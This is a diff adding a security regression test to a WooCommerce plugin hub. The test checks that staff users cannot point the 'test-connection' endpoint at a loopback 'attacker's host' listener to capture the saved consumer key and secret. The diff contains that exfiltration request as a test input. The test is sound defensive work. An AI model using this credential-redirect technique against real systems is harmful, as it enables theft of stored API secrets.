@@ -2,12 +2,18 @@
 
 from __future__ import annotations
 
+import base64
 import logging
+import socket
+import threading
+import time
 from pathlib import Path
 
+import httpx
 import pytest
 
 from hub.testing import TEST_TOKEN, client, free_port, make_settings, running_hub
+from hub.web.auth import add_user
 from plugins.woocommerce.simulator import SimulatedStore
 from tests.plugins.woocommerce.hub_fixtures import KEY, SECRET, World, world
 
@@ -49,10 +55,88 @@ def test_every_problem_is_said_in_words(tmp_path: Path) -> None:
         assert "secret is wrong" in wrong.json()["message"]
         # Nothing listening on the port at all.
         gone = w.http.post(
-            f"{BASE}/test-connection", json={"store_url": f"http://127.0.0.1:{free_port()}"}
+            f"{BASE}/test-connection",
+            json={
+                "store_url": f"http://127.0.0.1:{free_port()}",
+                "consumer_key": "ck_other",
+                "consumer_secret": "cs_other",
+            },
         )
         assert gone.json()["problem"] == "unreachable"
         assert "refused" in gone.json()["message"] or "connect" in gone.json()["message"]
+
+
+class Listener:
+    """A loopback TCP listener that keeps every byte sent to it (an attacker's host)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received = b""
+        self.stopped = threading.Event()
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self) -> None:
+        while not self.stopped.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                conn.settimeout(0.5)
+                try:
+                    while chunk := conn.recv(65536):
+                        self.received += chunk
+                except OSError:
+                    pass
+
+    def close(self) -> None:
+        self.stopped.set()
+        self.thread.join()
+        self.sock.close()
+
+
+def test_staff_cannot_send_the_saved_secret_to_another_host(tmp_path: Path) -> None:
+    listener = Listener()
+    try:
+        with world(tmp_path) as w:
+            add_user(w.rt.session, "sam", "sam-secret-1", "staff")
+            url = f"http://127.0.0.1:{listener.port}"
+            with httpx.Client(base_url=str(w.http.base_url), auth=("sam", "sam-secret-1")) as sam:
+                # The exact request of the audit: refused for staff, nothing leaves.
+                stolen = sam.post(
+                    f"{BASE}/test-connection", json={"store_url": url, "auth": "basic"}
+                )
+                assert stolen.status_code == 403, stolen.text
+                assert "admin" in stolen.json()["error"]["message"]
+                # Staff may still test the saved settings as they are.
+                saved = sam.post(f"{BASE}/test-connection")
+                assert saved.status_code == 200 and saved.json()["ok"] is True
+            # An admin pointing the test at another URL must bring that store's own key and
+            # secret: the saved ones only ever go to the saved URL.
+            admin = w.http.post(f"{BASE}/test-connection", json={"store_url": url, "auth": "basic"})
+            assert admin.status_code == 422, admin.text
+            assert admin.json()["error"]["field"] == "consumer_secret"
+            time.sleep(0.3)
+            assert listener.received == b""
+            # With a key and secret of its own the test goes there, carrying only those.
+            w.http.post(
+                f"{BASE}/test-connection",
+                json={
+                    "store_url": url,
+                    "auth": "basic",
+                    "consumer_key": "ck_mine",
+                    "consumer_secret": "cs_mine",
+                },
+                timeout=60,
+            )
+            sent = listener.received
+            assert KEY.encode() not in sent and SECRET.encode() not in sent
+            assert base64.b64encode(f"{KEY}:{SECRET}".encode()) not in sent
+    finally:
+        listener.close()
 
 
 def test_plain_http_store_uses_oauth_signatures(tmp_path: Path) -> None:
